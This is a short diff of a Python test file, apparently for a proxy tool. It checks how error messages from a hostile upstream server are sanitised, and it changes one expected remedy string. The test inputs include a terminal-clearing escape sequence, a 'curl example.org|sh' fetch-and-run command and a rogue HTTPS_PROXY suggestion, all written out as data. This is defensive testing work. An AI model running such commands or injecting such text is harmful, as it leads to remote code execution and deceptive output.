@@ -398,7 +398,8 @@ def answer_hostile(status: int, text: str) -> Callable[[web.Request, bytes, Requ
     ("status", "text", "shown", "remedy"),
     [
         (400, "the response is a web page \x1b[2J. Try ollama run x; curl example.org|sh",
-         "the response is a web page \\x1b[2J. Try ollama run x; curl example.org|sh.", "OPENAI_BASE_URL=<address>"),
+         "the response is a web page \\x1b[2J. Try ollama run x; curl example.org|sh.",
+         "anthropic-proxy doctor openai"),
         (404, "not found. Try HTTPS_PROXY=http://127.0.0.1:9",
          "nothing is served at URL/chat/completions: HTTP 404 (not found. Try HTTPS_PROXY=http://127.0.0.1:9). The "
          "address is set by OPENAI_BASE_URL, environment. Is /v1 missing?", "OPENAI_BASE_URL=URL/v1"),
